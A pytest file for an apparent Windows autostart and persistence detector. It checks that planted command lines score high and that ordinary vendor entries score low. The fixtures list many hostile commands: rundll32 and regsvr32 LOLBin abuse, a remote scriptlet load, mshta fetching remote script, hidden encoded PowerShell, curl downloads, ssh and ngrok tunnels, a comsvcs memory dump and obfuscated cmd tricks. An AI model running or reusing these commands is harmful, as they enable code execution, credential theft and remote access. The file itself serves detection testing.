"""One planted command in the many ways in which it can be written, and harmless ones that look alike."""

from __future__ import annotations

import pytest

from tests.sessions.factory import Scene
from tests.sessions.test_persistence import MTIME, only, run_value

PLANTED = r"""
C:\Windows\System32\cmd.exe /c C:\Users\bob\evil.exe
cmd /c C:\Users\bob\evil.exe
cmd /c start C:\Users\bob\Documents\evil.exe
cmd.exe/c C:\Users\bob\evil.bat
%comspec% /c C:\Users\bob\evil.bat
regsvr32 /s C:\Users\bob\Documents\evil.dll
regsvr32 /s /n /u /i:\\10.0.0.5\a\x.sct scrobj.dll
rundll32 C:\Users\bob\evil.dll,Start
rundll32 shell32.dll,ShellExec_RunDLL C:\Users\bob\evil.exe
rundll32.exe C:\Windows\System32\shell32.dll,ShellExec_RunDLL C:\Users\bob\evil.exe
rundll32.exe url.dll,FileProtocolHandler C:\Users\bob\evil.hta
rundll32.exe zipfldr.dll,RouteTheCall C:\Users\bob\evil.exe
rundll32.exe pcwutl.dll,LaunchApplication C:\Users\bob\evil.exe
rundll32.exe advpack.dll,LaunchINFSection C:\Users\bob\evil.inf,x,1,
rundll32.exe comsvcs.dll,MiniDump 600 C:\a.dmp full
p^ower^shell -nop -w hi^dden -c "iex x"
powershell -WindowStyle 1 -c "& C:\Users\bob\a.ps1"
powershell -ExecutionPolicy Bypass -File C:\Users\bob\a.ps1
PowerShell.exe -win hidden -NoP -C "IEX(gp HKCU:\Software\A).b"
powershell /e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
powershell -encod SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
powershell -encodedComman SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
\\10.0.0.5\share\evil.exe
\\localhost\C$\Users\Public\evil.exe
\\?\C:\Users\Public\evil.exe
\??\C:\Users\Public\evil.exe
\\.\C:\ProgramData\evil.exe
C:\Windows\..\Users\Public\evil.exe
C:\Program Files\..\ProgramData\evil.exe
C:\PROGRA~3\evil.exe
C:/ProgramData/evil.exe
C:\\ProgramData\\evil.exe
%SystemDrive%/ProgramData/evil.exe
%HOMEDRIVE%\ProgramData\evil.exe
%USERPROFILE%\..\Public\evil.exe
%USERPROFILE%\evil.exe
C:\Users\bob\Documents\evil.exe
C:\Users\bob\AppData\Roaming\evil.exe
C:\Users\bob\AppData\Local\Temp\evil.exe.
C:\ProgramData\evil.txt:evil.exe
C:\Windows\System32\drivers\etc\hosts:evil.exe
C:\Windows\Tracing\evil.exe
C:\Windows\System32\spool\drivers\color\evil.exe
C:\Windows\System32\Tasks\evil.exe
C:\Windows\Fonts\evil.exe
C:\evil.exe
D:\evil.exe
C:\$Recycle.Bin\S-1-5-21-1\evil.exe
C:\inetpub\wwwroot\evil.exe
mshta vbscript:Execute("x")(window.close)
mshta javascript:a=GetObject("script:http://x")
wscript.exe //e:vbscript C:\Users\bob\a.txt
C:\Users\bob\a.vbs
"C:\Users\bob\a.js"
C:\Users\bob\Documents\a.lnk
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\ProgramData\build\a.xml
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\ProgramData\a.log
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe "C:\ProgramData\a.vbproj" /nologo
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\ProgramData\a.xml;x
C:\ProgramData\renamed.exe C:\ProgramData\a.xml
explorer.exe C:\Users\bob\evil.exe
conhost.exe --headless C:\Users\bob\evil.exe
pcalua.exe -a C:\Users\bob\evil.exe
forfiles /p c:\windows\system32 /m notepad.exe /c C:\Users\bob\evil.exe
control.exe C:\Users\bob\evil.cpl
mmc.exe C:\Users\bob\evil.msc
curl.exe -o C:\Users\bob\a.exe http://1.2.3.4/a
ftp -s:C:\Users\bob\a.txt
wuauclt.exe /UpdateDeploymentProvider C:\Users\bob\a.dll /RunHandlerComServer
rundll32.exe evil.dll,Start
odbcconf /a {REGSVR C:\Users\bob\a.dll}
hh.exe http://x/y.chm
ssh -R 1080 x@1.2.3.4 -N
cmd /c %ProgramData:~0,1%alc
cmd /c "set x=C:\Prog&& set y=ramData\evil.exe&& call %x%%y%"
cmd /v:on /c "set x=C:\Intel\evil.exe& !x!!x!"
cmd /c "set x=C:\Intel\evil.exe&& call %x%"
powershell –w hidden –enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
powershell —enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
powershell -c $env:PUBLIC\a.exe
powershell -c "& ${env:ProgramData}\a.exe"
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe @C:\Intel\a.rsp
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\build\hello.xml
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Intel\a
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Intel\a.yml /p:x=\build\y
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\source\repos\a.proj
C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\bob\source\repos\a.proj /l:X,C:\Intel\e.dll
dotnet msbuild C:\Intel\x
cmd /c "cd /d C:\Intel && MSBuild a"
pythonw.exe C:\Users\bob\a.py
"C:\Program Files\nodejs\node.exe" C:\Users\bob\a.js
"C:\Program Files\Java\bin\javaw.exe" -jar C:\Users\bob\evil.jar
dotnet C:\Users\bob\evil.dll
"C:\Program Files\AutoHotkey\AutoHotkey.exe" C:\Users\bob\a.ahk
pythonw.exe C:\ProgramData\a\a.py
ssh -o ProxyCommand=C:\Users\bob\evil.exe x
ssh -F C:\Users\bob\conf host
ssh -N -D 1080 a@1.2.3.4
"C:\Program Files\Google\Chrome\Application\chrome.exe" --gpu-launcher="C:\Users\bob\evil.exe"
"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --load-extension=C:\Users\bob\ext
cloudflared tunnel run --token x
C:\Tools\ngrok.exe tcp 3389
C:\Windows\System32\tttracer.exe C:\Users\bob\evil.exe
"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /l C:\Users\bob\evil.wll
\\?\Volume{01234567-89ab-cdef-0123-456789abcdef}\Users\Public\evil.exe
\\?\GLOBALROOT\DosDevices\C:\Users\Public\evil.exe
C:\Users\Groß\Local Settings\Temp\evil.exe
""".strip().splitlines()
LEADS = r"""
%COMSPEC% /c start /b powershell -nop
bash.exe -c "x"
wsl.exe -e x
C:\Scripts\logon.bat
""".strip().splitlines()
HARMLESS = r"""
"C:\Program Files\Vendor\Tray.exe" /min
C:\Program Files (x86)\Vendor\Updater\update.exe -silent
%windir%\system32\ctfmon.exe
%ProgramFiles%\Windows Defender\MSASCuiL.exe
rundll32.exe shell32.dll,Control_RunDLL
rundll32.exe C:\Windows\System32\nvsvc64.dll,Init
RunDLL32.exe NvMCTray.dll,NvTaskbarInit
explorer.exe
C:\Windows\System32\mmc.exe C:\Windows\System32\services.msc
C:\Users\bob\AppData\Local\Programs\App\app.exe --hidden
C:\Users\bob\AppData\Roaming\Spotify\Spotify.exe --autostart
C:\Users\bob\AppData\Local\Discord\Update.exe --processStart Discord.exe
"C:\Program Files\Java\bin\javaw.exe" -jar "C:\Program Files\Vendor\tray.jar"
"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default
"C:\Program Files\7-Zip\7z.exe" a D:\b.7z C:\Users\bob\Documents
C:\Windows\System32\taskkill.exe /f /im msbuild.exe
C:\Windows\System32\OpenSSH\ssh.exe -N -f -d host
""".strip().splitlines()


def score(command: str, name: str = "x") -> int:
    scene = Scene()
    run_value(scene, name, command)
    return only(scene).score


@pytest.mark.parametrize("command", PLANTED)
def test_planted_ones_stand_out(command: str) -> None:
    assert score(command) > 40


@pytest.mark.parametrize("command", LEADS)
def test_these_are_seen(command: str) -> None:
    assert score(command) == 20


@pytest.mark.parametrize("command", HARMLESS)
def test_harmless_ones_do_not(command: str) -> None:
    assert score(command) <= 5


def test_a_folder_of_a_product_below_programdata_is_no_finding() -> None:
    assert score("C:\\ProgramData\\Vendor\\Tray.exe") == 25


@pytest.mark.parametrize(
    ("command", "library"),
    [
        ("\\??\\C:\\ProgramData\\evil.sys", ""),
        ("system32\\drivers\\..\\..\\Temp\\evil.sys", ""),
        ("C:\\ProgramData\\Microsoft\\evil.exe", ""),
        ("C:\\Windows\\System32\\curl.exe http://1.2.3.4/x -o C:\\Users\\Public\\a.exe", ""),
        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", "%ProgramData%\\evil.dll"),
        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", "C:\\Windows\\..\\Users\\Public\\evil.dll"),
        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", "C:\\ProgramData\\Microsoft\\evil.dll"),
        ('"C:\\ProgramData\\Microsoft\\Windows Defender\\..\\evil.exe"', ""),
    ],
)
def test_services(command: str, library: str) -> None:
    scene = Scene()
    more = {"target_path": library} if library else {}
    scene.file("service.configured", "C:/Windows/System32/config/SYSTEM", {MTIME: 0}, "x", service_name="u",
               command_line=command, mechanism="service", location="x", service_account="LocalSystem",
               **more)  # fmt: skip
    assert only(scene).score > 40


def test_what_only_carries_the_name_of_defender_is_not_known() -> None:
    scene = Scene()
    scene.file("service.configured", "C:/Windows/System32/config/SYSTEM", {MTIME: 0}, "x", service_name="WinDefend",
               command_line='"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\evil.exe"',
               mechanism="service", location="x")  # fmt: skip
    assert not any("known autostart" in reason for reason in only(scene).reasons)
